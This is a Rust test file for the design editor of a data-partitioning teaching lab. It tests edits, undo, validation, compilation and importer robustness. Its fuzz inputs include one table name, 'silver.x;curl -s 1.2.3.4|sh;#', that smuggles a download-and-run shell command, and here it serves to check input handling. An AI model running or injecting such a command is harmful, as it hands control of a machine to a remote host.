//! The design model: edits and undo, validation in words, and compiled
//! designs that the engine runs (the SPEC 4 week, designed on the canvas).

// Test code: a panic is how a test fails.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

mod cases;
use chrono::NaiveDate;
use proptest::prelude::*;

use partition_lab::design::files::file::{export, import};
use partition_lab::design::graph::{Layer, StateChoice, WriteChoice};
use partition_lab::design::limits::check_config;
use partition_lab::design::{
    apply, compile, validate, Edit, EditError, Graph, History, NodeConfig, NodeId, NodeKind,
};
use partition_lab::engine::calendar::{days, shift};
use partition_lab::engine::{
    simulate, AfterFinal, CommitOrder, ListDate, LogicVersion, MergeKey, PartitionKey,
    ProcessingState, WatermarkColumn, WriteMode,
};
use partition_lab::labs::state_write::{monday, script, Controls};

const SOURCE: NodeId = NodeId(0);

/// Source -> [state] -> transform -> write, built edit by edit as the keyboard path would.
fn chain(state: Option<StateChoice>, mode: WriteChoice) -> History {
    let mut h = History::new(Graph::with_source("bronze.orders"));
    let add = |h: &mut History, kind: NodeKind| {
        h.edit(&Edit::Add {
            config: NodeConfig::default_for(kind),
            x: 100,
            y: 100,
        })
        .expect("palette add");
        NodeId(h.current.next_id - 1)
    };
    let transform = add(&mut h, NodeKind::Transform);
    let write = add(&mut h, NodeKind::Write);
    h.edit(&Edit::Configure {
        id: write,
        config: NodeConfig::Write {
            table: "silver.orders".into(),
            mode,
        },
    })
    .expect("configure");
    match state {
        Some(choice) => {
            let s = add(&mut h, NodeKind::State);
            h.edit(&Edit::Configure {
                id: s,
                config: NodeConfig::State {
                    state: choice,
                    commit: CommitOrder::StateAfterWrite,
                    catch_up: false,
                },
            })
            .expect("configure");
            h.edit(&Edit::Connect {
                from: SOURCE,
                to: s,
            })
            .expect("source -> state");
            h.edit(&Edit::Connect {
                from: s,
                to: transform,
            })
            .expect("state -> transform");
        }
        None => h
            .edit(&Edit::Connect {
                from: SOURCE,
                to: transform,
            })
            .expect("source -> transform"),
    }
    h.edit(&Edit::Connect {
        from: transform,
        to: write,
    })
    .expect("transform -> write");
    h
}

fn rows_per_day(h: &History) -> Vec<usize> {
    let compiled = compile(&h.current).expect("a valid design compiles");
    let outcome = simulate(&compiled.pipeline, &script(&Controls::default()));
    days(monday(), shift(monday(), 6))
        .map(|d| outcome.silver.partition(d).len())
        .collect()
}

#[test]
fn designs_drawn_on_the_canvas_reproduce_the_spec_4_week() {
    let watermark = Some(StateChoice::Watermark {
        column: WatermarkColumn::ArrivedAt,
        overlap_minutes: 0,
    });
    let list = Some(StateChoice::PartitionList {
        lookback: 1,
        over: ListDate::EventDate,
    });
    assert_eq!(
        rows_per_day(&chain(watermark, WriteChoice::Append)),
        [5, 4, 8, 4, 4, 4, 4]
    );
    assert_eq!(
        rows_per_day(&chain(watermark, WriteChoice::OverwritePartition)),
        [1, 4, 4, 4, 4, 4, 4]
    );
    assert_eq!(
        rows_per_day(&chain(list, WriteChoice::Append)),
        [9, 12, 12, 8, 8, 8, 4]
    );
    assert_eq!(
        rows_per_day(&chain(list, WriteChoice::OverwritePartition)),
        [5, 4, 4, 4, 4, 4, 4]
    );
    assert_eq!(
        rows_per_day(&chain(None, WriteChoice::ReplaceTable)),
        [5, 4, 4, 4, 4, 4, 4]
    );
    assert_eq!(
        rows_per_day(&chain(
            watermark,
            WriteChoice::Merge {
                key: Some(MergeKey::Key)
            }
        )),
        [5, 4, 4, 4, 4, 4, 4]
    );
}

#[test]
fn valid_designs_have_no_problems() {
    let h = chain(
        Some(StateChoice::PartitionList {
            lookback: 2,
            over: ListDate::EventDate,
        }),
        WriteChoice::OverwritePartition,
    );
    assert_eq!(validate(&h.current), vec![]);
}

#[test]
fn each_structural_problem_is_named_on_its_node() {
    let mut h = chain(None, WriteChoice::Merge { key: None });
    let write = NodeId(2);
    let problems = validate(&h.current);
    assert!(
        problems
            .iter()
            .any(|p| p.node == Some(write) && p.message.contains("merge needs a key")),
        "{problems:?}"
    );
    assert!(compile(&h.current).is_err());

    // An unconnected input.
    h.edit(&Edit::Add {
        config: NodeConfig::default_for(NodeKind::Checks),
        x: 0,
        y: 0,
    })
    .expect("add");
    let checks = NodeId(h.current.next_id - 1);
    assert!(validate(&h.current)
        .iter()
        .any(|p| p.node == Some(checks) && p.message.contains("no input")));

    // Two writers into one table.
    h.edit(&Edit::Add {
        config: NodeConfig::default_for(NodeKind::Write),
        x: 0,
        y: 0,
    })
    .expect("add");
    let second = NodeId(h.current.next_id - 1);
    assert!(validate(&h.current)
        .iter()
        .any(|p| p.node == Some(second) && p.message.contains("two writers into one table")));

    // A cycle: silver read back into the transform that writes it.
    let mut c = chain(None, WriteChoice::OverwritePartition);
    let (transform, write) = (NodeId(1), NodeId(2));
    c.edit(&Edit::Configure {
        id: transform,
        config: NodeConfig::Transform {
            logic: Default::default(),
            reads: Layer::Silver,
            partition_key: Default::default(),
        },
    })
    .expect("configure");
    c.edit(&Edit::Connect {
        from: write,
        to: transform,
    })
    .expect("write -> transform is allowed");
    assert!(validate(&c.current)
        .iter()
        .any(|p| p.message.contains("loop")));

    // A backfill with a reversed range.
    let mut b = chain(None, WriteChoice::OverwritePartition);
    b.edit(&Edit::Add {
        config: NodeConfig::default_for(NodeKind::Backfill),
        x: 0,
        y: 0,
    })
    .expect("add");
    let backfill = NodeId(b.current.next_id - 1);
    let day = |d| NaiveDate::from_ymd_opt(2026, 8, d).expect("date");
    let NodeConfig::Backfill {
        max_concurrency,
        shape,
        markers,
        yield_to_scheduled,
        ..
    } = NodeConfig::default_for(NodeKind::Backfill)
    else {
        panic!("default backfill");
    };
    b.edit(&Edit::Configure {
        id: backfill,
        config: NodeConfig::Backfill {
            first: day(13),
            last: day(3),
            max_concurrency,
            shape,
            markers,
            yield_to_scheduled,
        },
    })
    .expect("configure");
    let problems = validate(&b.current);
    assert!(problems
        .iter()
        .any(|p| p.node == Some(backfill) && p.message.contains("runs backwards")));
    assert!(problems
        .iter()
        .any(|p| p.node == Some(backfill) && p.message.contains("no input")));

    // A year typed as 206 is outside the dates the inspector takes at all.
    assert!(matches!(
        b.edit(&Edit::Configure {
            id: backfill,
            config: NodeConfig::Backfill {
                first: NaiveDate::from_ymd_opt(206, 8, 3).expect("date"),
                last: day(13),
                max_concurrency,
                shape,
                markers,
                yield_to_scheduled,
            },
        }),
        Err(EditError::OutOfLimits(_))
    ));
    // A typo within them asks for decades: refused before anything runs.
    b.edit(&Edit::Configure {
        id: backfill,
        config: NodeConfig::Backfill {
            first: NaiveDate::from_ymd_opt(2006, 8, 3).expect("date"),
            last: day(13),
            max_concurrency,
            shape,
            markers,
            yield_to_scheduled,
        },
    })
    .expect("configure");
    assert!(validate(&b.current)
        .iter()
        .any(|p| p.node == Some(backfill) && p.message.contains("the lab simulates at most 3660")));
}

#[test]
fn refused_edits_change_nothing_and_undo_redo_round_trip() {
    let mut h = chain(None, WriteChoice::OverwritePartition);
    let before = h.current.clone();
    assert!(matches!(
        h.edit(&Edit::Delete { id: SOURCE }),
        Err(EditError::Fixed)
    ));
    assert!(matches!(
        h.edit(&Edit::Connect {
            from: NodeId(2),
            to: SOURCE
        }),
        Err(EditError::CannotConnect { .. })
    ));
    assert!(matches!(
        h.edit(&Edit::Connect {
            from: NodeId(1),
            to: NodeId(1)
        }),
        Err(EditError::SelfLoop)
    ));
    assert!(matches!(
        h.edit(&Edit::Add {
            config: NodeConfig::default_for(NodeKind::Source),
            x: 0,
            y: 0
        }),
        Err(EditError::SourceFromPalette)
    ));
    assert_eq!(h.current, before);
    h.edit(&Edit::Delete { id: NodeId(2) })
        .expect("delete the write target");
    assert!(h.current.edges.iter().all(|e| e.to != NodeId(2)));
    assert!(h.undo());
    assert_eq!(h.current, before);
    assert!(h.redo());
    assert!(h.current.node(NodeId(2)).is_none());
    assert!(!h.redo());
    // An import replaces the design in one step that undo takes back.
    let edited = h.current.clone();
    h.replace(Graph::with_source("bronze.orders"));
    assert_ne!(h.current, edited);
    assert!(h.undo());
    assert_eq!(h.current, edited);
}

fn any_kind() -> impl Strategy<Value = NodeKind> {
    prop::sample::select(NodeKind::PALETTE.to_vec())
}

/// Any node configuration, inside the inspector's limits or far outside.
fn any_config() -> impl Strategy<Value = NodeConfig> {
    let number = prop_oneof![0u32..80, Just(u32::MAX), any::<u32>()];
    let name = prop_oneof![
        Just("silver.orders".to_string()),
        Just("silver.x;curl -s 1.2.3.4|sh;#".to_string()),
        "[a-z_.]{0,70}",
        "\\PC{0,8}",
    ];
    prop_oneof![
        any_kind().prop_map(NodeConfig::default_for),
        (name, any_write()).prop_map(|(table, mode)| NodeConfig::Write { table, mode }),
        (number.clone(), any::<bool>()).prop_map(|(n, watermark)| NodeConfig::State {
            state: if watermark {
                StateChoice::Watermark {
                    column: WatermarkColumn::UpdatedAt,
                    overlap_minutes: n,
                }
            } else {
                StateChoice::PartitionList {
                    lookback: n,
                    over: ListDate::EventDate,
                }
            },
            commit: CommitOrder::StateAfterWrite,
            catch_up: false,
        }),
        number.clone().prop_map(|n| NodeConfig::Finaliser {
            allowed_lateness_days: n,
            after_final: AfterFinal::Adjustments
        }),
        (number, -100_000i32..100_000, 0i32..40_000).prop_map(|(n, start, len)| {
            let base = NaiveDate::from_ymd_opt(2026, 1, 1).expect("date");
            NodeConfig::Backfill {
                first: shift(base, i64::from(start)),
                last: shift(base, i64::from(start) + i64::from(len)),
                max_concurrency: n,
                shape: partition_lab::design::graph::BackfillShape::PerDate,
                markers: partition_lab::design::graph::Markers::AfterPartition,
                yield_to_scheduled: false,
            }
        }),
    ]
}

fn any_edit() -> impl Strategy<Value = Edit> {
    let id = (0u32..12).prop_map(NodeId);
    prop_oneof![
        (any_kind(), -50i32..20_000, -50i32..20_000).prop_map(|(k, x, y)| Edit::Add {
            config: NodeConfig::default_for(k),
            x,
            y
        }),
        (id.clone(), any::<i32>(), any::<i32>()).prop_map(|(id, x, y)| Edit::Move { id, x, y }),
        (id.clone(), id.clone()).prop_map(|(from, to)| Edit::Connect { from, to }),
        (id.clone(), id.clone()).prop_map(|(from, to)| Edit::Disconnect { from, to }),
        (id.clone(), any_config()).prop_map(|(id, config)| Edit::Configure { id, config }),
        id.prop_map(|id| Edit::Delete { id }),
    ]
}

proptest! {
    #[test]
    fn any_sequence_of_edits_keeps_ids_and_edges_consistent(edits in prop::collection::vec(any_edit(), 0..60)) {
        let start = Graph::with_source("bronze.orders");
        let mut h = History::new(start.clone());
        let mut applied = 0;
        for edit in &edits {
            let before = h.current.clone();
            match h.edit(edit) {
                Ok(()) => applied += 1,
                Err(_) => prop_assert_eq!(&h.current, &before, "a refused edit changed the design"),
            }
            let g = &h.current;
            prop_assert!(g.nodes.contains_key(&NodeId(0)), "the given source survives");
            for (id, node) in &g.nodes {
                prop_assert_eq!(*id, node.id);
                prop_assert!(id.0 < g.next_id);
                prop_assert!((0..=10_000).contains(&node.x) && (0..=10_000).contains(&node.y));
            }
            for e in &g.edges {
                let (from, to) = (g.node(e.from), g.node(e.to));
                prop_assert!(from.is_some() && to.is_some(), "dangling edge {:?}", e);
                prop_assert!(e.from != e.to);
                prop_assert!(from.map(|n| n.kind()).zip(to.map(|n| n.kind())).is_some_and(|(a, b)| a.feeds(b)));
            }
            // Every setting is one the inspector could make, and the design
            // comes back from its own file exactly: what the editor builds,
            // the importer accepts.
            for node in g.nodes.values() {
                prop_assert_eq!(check_config(&node.config), Ok(()), "{:?}", node.config);
            }
            let back = import(&export(g, Some(1))).map(|f| f.graph);
            prop_assert_eq!(back.as_ref(), Ok(g));
            // Validation and compilation never panic, whatever the graph.
            let _ = validate(g);
            let _ = compile(g);
            let _ = apply(g, edit);
        }
        for _ in 0..applied {
            prop_assert!(h.undo());
        }
        prop_assert_eq!(h.current, start);
    }
}

proptest! {
    #![proptest_config(cases::cases(500))]

    #[test]
    fn a_share_link_never_panics_whatever_it_carries(value in "[A-Za-z0-9_=%-]{0,600}") {
        let _ = partition_lab::design::files::link::decode(&value);
    }

    #[test]
    fn the_importer_never_panics_on_arbitrary_bytes(bytes in prop::collection::vec(any::<u8>(), 0..2048)) {
        let text = String::from_utf8_lossy(&bytes);
        let _ = partition_lab::design::files::file::import(&text);
    }

    #[test]
    fn the_importer_never_panics_on_a_mangled_design(cut in 0usize..2000, insert in "[{}\\[\\]:,\"0-9a-z -]{0,12}") {
        let good = partition_lab::design::files::file::export(&chain(None, WriteChoice::OverwritePartition).current, Some(1));
        let at = cut.min(good.len());
        let at = (0..=at).rev().find(|i| good.is_char_boundary(*i)).unwrap_or(0);
        let mangled = format!("{}{}{}", &good[..at], insert, &good[at..]);
        if let Ok(file) = partition_lab::design::files::file::import(&mangled) {
            // Whatever is accepted is a design the editor could have made,
            // and it re-exports to an equal design.
            for node in file.graph.nodes.values() {
                prop_assert_eq!(check_config(&node.config), Ok(()));
            }
            let again = import(&export(&file.graph, file.scenario)).expect("its own export imports");
            prop_assert_eq!(again, file.clone());
            let _ = validate(&file.graph);
            let _ = compile(&file.graph);
        }
    }
}

fn any_state() -> impl Strategy<Value = Option<StateChoice>> {
    prop_oneof![
        Just(None),
        Just(Some(StateChoice::None)),
        (
            prop::sample::select(vec![
                WatermarkColumn::ArrivedAt,
                WatermarkColumn::UpdatedAt,
                WatermarkColumn::EventTime
            ]),
            0u32..600
        )
            .prop_map(|(column, overlap_minutes)| Some(StateChoice::Watermark {
                column,
                overlap_minutes
            })),
        (
            0u32..8,
            prop::sample::select(vec![ListDate::EventDate, ListDate::ChangeDate])
        )
            .prop_map(|(lookback, over)| Some(StateChoice::PartitionList { lookback, over })),
        (0u32..8).prop_map(|days| Some(StateChoice::TrailingWindow { days })),
    ]
}

fn any_write() -> impl Strategy<Value = WriteChoice> {
    prop::sample::select(vec![
        WriteChoice::Append,
        WriteChoice::OverwritePartition,
        WriteChoice::Merge {
            key: Some(MergeKey::Key),
        },
        WriteChoice::Merge {
            key: Some(MergeKey::RowId),
        },
        WriteChoice::ReplaceTable,
    ])
}

proptest! {
    #![proptest_config(cases::cases(64))]

    /// Whatever a student configures, a valid design compiles to exactly
    /// those settings and the engine runs it to the end of the week.
    #[test]
    fn any_valid_design_compiles_to_its_settings_and_runs(
        state in any_state(),
        mode in any_write(),
        before in any::<bool>(),
        processing_date in any::<bool>(),
        finaliser in prop::option::of((0u32..6, prop::sample::select(vec![AfterFinal::Drop, AfterFinal::Adjustments, AfterFinal::Reopen]))),
    ) {
        let mut h = chain(state, mode);
        let transform = NodeId(1);
        let write = NodeId(2);
        h.edit(&Edit::Configure { id: transform, config: NodeConfig::Transform {
            logic: LogicVersion::Fixed,
            reads: Layer::Bronze,
            partition_key: if processing_date { PartitionKey::ProcessingDate } else { PartitionKey::EventDate },
        }}).expect("configure the transform");
        if let Some(s) = state {
            h.edit(&Edit::Configure { id: NodeId(3), config: NodeConfig::State {
                state: s,
                commit: if before { CommitOrder::StateBeforeWrite } else { CommitOrder::StateAfterWrite },
                catch_up: false,
            }}).expect("configure the state");
        }
        if let Some((days, after_final)) = finaliser {
            h.edit(&Edit::Add { config: NodeConfig::Finaliser { allowed_lateness_days: days, after_final }, x: 0, y: 0 }).expect("add");
            let f = NodeId(h.current.next_id - 1);
            h.edit(&Edit::Connect { from: write, to: f }).expect("write -> finaliser");
        }
        prop_assert!(validate(&h.current).is_empty(), "{:?}", validate(&h.current));
        let compiled = compile(&h.current).expect("a valid design compiles");
        let p = compiled.pipeline;
        prop_assert_eq!(p.finaliser.map(|f| (f.allowed_lateness_days, f.after_final)), finaliser);
        prop_assert_eq!(p.partition_key == PartitionKey::ProcessingDate, processing_date);
        if state.is_some() {
            prop_assert_eq!(p.commit == CommitOrder::StateBeforeWrite, before);
        }
        let expected_state = match state.unwrap_or(StateChoice::None) {
            StateChoice::Watermark { column, overlap_minutes } => ProcessingState::Watermark { column, overlap_minutes },
            StateChoice::PartitionList { lookback, over } => ProcessingState::PartitionList { lookback, over },
            StateChoice::None => ProcessingState::None,
            StateChoice::TrailingWindow { days } => ProcessingState::TrailingWindow { days },
        };
        prop_assert_eq!(p.state, expected_state);
        let expected_write = match mode {
            WriteChoice::Append => WriteMode::Append,
            WriteChoice::OverwritePartition => WriteMode::OverwritePartition,
            WriteChoice::Merge { key } => WriteMode::Merge { key: key.expect("the strategy picks a key") },
            WriteChoice::ReplaceTable => WriteMode::ReplaceTable,
        };
        prop_assert_eq!(p.write, expected_write);
        let script = script(&Controls::default());
        let outcome = simulate(&p, &script);
        // Every planned run happened (a crash adds its retry).
        prop_assert!(outcome.runs.len() >= script.runs.len());
        prop_assert!(!outcome.silver.is_empty(), "the design wrote nothing");
    }
}
